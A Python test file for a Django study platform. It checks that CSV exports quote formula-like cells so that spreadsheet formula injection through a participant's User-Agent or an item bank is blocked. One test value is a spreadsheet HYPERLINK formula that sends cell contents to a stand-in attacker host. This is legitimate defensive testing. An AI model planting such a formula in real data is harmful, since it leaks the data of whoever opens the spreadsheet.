"""CSV injection (issue 17 hole 2): a participant controls the stored User-Agent, a researcher's bank
any text; a cell starting with = + - @ (or a tab or carriage return) would run as a spreadsheet
formula. Every CSV Duet writes quotes such cells; numbers, negative ones included, stay numbers."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from experiments.models import Item
from experiments.participation import trials
from experiments.participation import services
from experiments.participation.payload import parse_trial
from common import csvsafe
from tests.experiments.participation.conftest import code_for, make_open_study, trial_data

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"click")'


def test_cells_that_would_be_formulas_are_quoted_and_numbers_are_not():
    assert [csvsafe.cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "ok", -0.5, 3)] == \
        ["'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "ok", -0.5, 3]
    frame = pd.DataFrame({"text": ["=cmd", "fine", None], "number": [-0.5, 1.0, 2.0],
                          "codes": pd.Categorical(["-a", "b", "b"])})
    safe = csvsafe.frame(frame)
    assert list(safe["text"]) == ["'=cmd", "fine", None] and list(safe["number"]) == [-0.5, 1.0, 2.0]
    assert list(safe["codes"]) == ["'-a", "b", "b"] and list(frame["text"]) == ["=cmd", "fine", None]


def test_the_admin_trial_export_quotes_a_participants_user_agent(client):
    study = make_open_study(interpretations=24, items_per_participant=3, attention_checks=[], practice=[])
    person, _ = services.participant_start(study=study, prolific_pid="p" * 24, prolific_session_id="s1")
    services.participant_consent(participant=person, agree=True)
    services.participant_instructions_done(participant=person)
    person.refresh_from_db()
    gold = Item.objects.get(pk=person.plan[0]).gold_answer
    payload = parse_trial(trial_data(person, 0, code=code_for(person, gold), key="=1+1"))
    trials.trial_record(participant=person, payload=payload, user_agent=HYPERLINK)
    client.force_login(get_user_model().objects.create_superuser("owner", password="x-" * 8))
    response = client.get(reverse("admin:experiments_study_trials_csv", args=[study.pk]))
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["user_agent"] == "'" + HYPERLINK and rows[0]["key"] in ("f", "j")  # the key is e.code's
    assert not any(value.startswith(csvsafe.TRIGGERS) for row in rows for value in row.values())


def test_an_exported_item_bank_with_a_formula_like_text_imports_back_unchanged(tmp_path):
    from designs.csv_bank.items import items_import_csv
    from experiments.item_csv import write_items_csv
    from tests.factories import StudyFactory

    study = StudyFactory()
    bank = ("item_id,premise_1,question,gold_answer\n"
            '"i1","=Anna reads.","+Can we infer that Anna reads?","yes"\n')
    items_import_csv(study=study, data=bank)
    out = io.StringIO()
    write_items_csv(out, study.items.select_related("interpretation", "original"))
    assert "'=Anna reads." in out.getvalue() and "'+Can we infer" in out.getvalue()
    again = StudyFactory()
    items_import_csv(study=again, data=out.getvalue())
    item = again.items.get()
    assert item.premises == ["=Anna reads."] and item.question == "+Can we infer that Anna reads?"
